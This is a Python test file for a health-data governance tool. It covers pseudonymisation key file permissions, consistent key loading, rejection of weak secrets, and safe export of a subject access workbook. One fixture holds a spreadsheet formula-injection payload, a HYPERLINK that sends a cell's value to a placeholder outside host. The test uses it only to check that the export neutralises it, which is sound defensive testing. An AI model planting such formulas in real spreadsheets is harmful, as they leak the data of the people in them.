"""Key and workbook hygiene as an IG officer checks it: a key file others can read is refused
with the command that fixes it; the same secret gives the same pseudonyms from the environment
or the file; a secret of too little variety is refused; the subject access workbook writes
text as text."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from governance.subject_access import Found, export
from sihub.privacy.keys import ENV, PseudonymKeyError, key_file, load_key

SECRET = "q7Hk2-Vr9xLm4Tz8Wb1Nc6Yd3Ff5Gg0Jj_s"


def write_key(home: Path, text: str, mode: int) -> Path:
    path = key_file(home)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(mode)
    return path


def test_a_key_file_others_can_read_is_refused_with_the_fix(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(ENV, raising=False)
    path = write_key(tmp_path, SECRET, 0o644)
    with pytest.raises(PseudonymKeyError, match=f"chmod 600 {path}") as refused:
        load_key(tmp_path)
    assert SECRET not in str(refused.value)
    path.chmod(0o600)
    assert load_key(tmp_path).secret == SECRET.encode()


def test_the_same_secret_gives_the_same_key_from_either_source(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(ENV, raising=False)
    write_key(tmp_path, SECRET + "\n", 0o600)
    from_file = load_key(tmp_path)
    monkeypatch.setenv(ENV, f"  {SECRET} \n")
    assert load_key(tmp_path).key_id == from_file.key_id
    monkeypatch.setenv(ENV, f'"{SECRET}"')  # quoted, as in an .env file
    assert load_key(tmp_path).key_id == from_file.key_id
    monkeypatch.delenv(ENV)
    write_key(tmp_path, "\ufeff" + SECRET + "\r\n", 0o600)  # saved by Windows Notepad
    assert load_key(tmp_path).key_id == from_file.key_id


@pytest.mark.parametrize(
    "weak",
    [
        " " * 40,
        "a" * 40,
        "abababababababababababababababababab",
        "\t" * 33 + "x",
        "0123456789ab" * 4,
        "Password1234567890Password1234567890",
    ],
)
def test_a_secret_of_too_little_variety_is_refused(weak: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(ENV, weak)
    with pytest.raises(PseudonymKeyError):
        load_key(tmp_path)


def test_the_subject_access_workbook_writes_text_as_text(tmp_path: Path) -> None:
    rows = pd.DataFrame({
        "dataset": "health/notes", "found_by": "the identifier given", "delivery_sha256": "f", "row": [1, 2, 3],
        "_source_sha256": "f", "_row": [1, 2, 3], "_nodes": [["nhs:1"]] * 3, "_record_key": None,
        "note": ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+SUM(1,2)", "plain"], "n": [1, 2, None],
    })  # fmt: skip
    path = export(Found({"health/notes": rows}), tmp_path / "sar")
    assert path.stat().st_mode & 0o077 == 0
    sheet = load_workbook(path).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert sheet["E2"].value.startswith("=HYPERLINK") and sheet["F2"].value == 1
